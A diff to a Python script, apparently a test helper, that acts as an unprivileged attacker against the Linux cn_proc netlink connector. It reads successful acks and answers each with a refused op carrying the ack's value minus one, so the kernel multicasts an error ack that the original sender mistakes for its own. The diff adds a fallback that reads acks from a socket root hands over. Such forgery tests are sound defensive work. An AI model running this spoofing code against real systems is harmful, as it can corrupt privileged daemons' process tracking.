@@ -1,11 +1,17 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: LGPL-2.1-or-later
-"""An attacker without privileges, as Linux 6.6 and later allow one: it listens to cn_proc's
-group 1 with the all-events filter, so it sees every ack the kernel multicasts, and answers each
-successful one (err 0) by sending cn_proc an op it refuses with that ack's value minus one: the
-kernel then multicasts an error ack carrying exactly the value the original sender waits for.
-Runs until stdin closes; prints how many it replayed."""
+"""An attacker without privileges: it watches cn_proc's acks and answers each successful one
+(err 0) by sending cn_proc an op it refuses with that ack's value minus one: the kernel then
+multicasts an error ack carrying exactly the value the original sender waits for.
 
+Where the kernel lets any user join group 1 (most 6.6+ builds) it listens there itself, with the
+all-events filter, so it sees every ack. Where it refuses the join (EPERM), it reads the acks from
+a group-1 socket that root opened and handed it (--capture-fd FD, already listening): a privileged
+accomplice's capture, forged by this unprivileged process from a socket of its own, as sending
+needs no group. First line: "ready joined" or "ready refused ERRNO". Runs until stdin closes;
+prints how many it replayed."""
+
+import argparse
 import select
 import socket
 import struct
@@ -21,17 +27,34 @@ def frame(ack, op):
     return NLMSGHDR.pack(NLMSGHDR.size + len(body), 3, 0, 0, 0) + body
 
 
-def main():
+def open_capture(capture_fd):
+    """(socket the acks are read from, what the join of its own came to)."""
     sock = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, NETLINK_CONNECTOR)
-    sock.bind((0, 1))
+    try:
+        sock.bind((0, 1))
+    except PermissionError as e:
+        sock.close()
+        if capture_fd is None:
+            raise
+        return socket.socket(fileno=capture_fd), f'refused {e.errno}'
     sock.sendto(frame(0, 1), (0, 0))            # LISTEN, all events and acks
-    print('ready', flush=True)
+    return sock, 'joined'
+
+
+def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument('--capture-fd', type=int)
+    args = ap.parse_args()
+    capture, how = open_capture(args.capture_fd)
+    # Forgeries go out from a socket of this process's own, bound to no group.
+    forge = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, NETLINK_CONNECTOR)
+    print(f'ready {how}', flush=True)
     replayed = 0
     while not select.select([sys.stdin], [], [], 0)[0]:
-        if not select.select([sock], [], [], 0.05)[0]:
+        if not select.select([capture], [], [], 0.05)[0]:
             continue
         try:
-            data = sock.recv(65536)
+            data = capture.recv(65536)
         except OSError:
             continue                            # ENOBUFS: we were flooded too
         off = 0
@@ -42,7 +65,7 @@ def main():
             what = struct.unpack_from('=I', data, body)[0]
             err = struct.unpack_from('=I', data, body + 16)[0]
             if (idx, val, what, err) == (1, 1, 0, 0) and ack != 0:
-                sock.sendto(frame(ack - 1, 3), (0, 0))
+                forge.sendto(frame(ack - 1, 3), (0, 0))
                 replayed += 1
             if nl_len < NLMSGHDR.size:
                 break
